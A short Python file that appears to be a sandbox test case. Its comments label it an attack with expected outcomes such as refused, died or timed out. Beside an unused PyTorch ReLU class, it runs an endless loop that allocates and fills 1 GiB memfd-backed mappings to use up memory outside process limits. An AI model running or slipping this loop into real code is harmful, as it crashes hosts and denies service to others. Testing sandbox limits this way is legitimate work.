# attack: takes all memory where no limit of a process sees it
# outcome: refused, died, raised, timed out
import torch
import mmap, os


class MyReLU(torch.autograd.Function):
    @staticmethod
    def forward(ctx, input):
        return input.clamp(min=0)

    @staticmethod
    def backward(ctx, grad_output):
        return grad_output

held = []
while True:
    fd = os.memfd_create("x")
    os.ftruncate(fd, 2**30)
    held.append(mmap.mmap(fd, 2**30))
    held[-1].write(b"x" * 2**30)
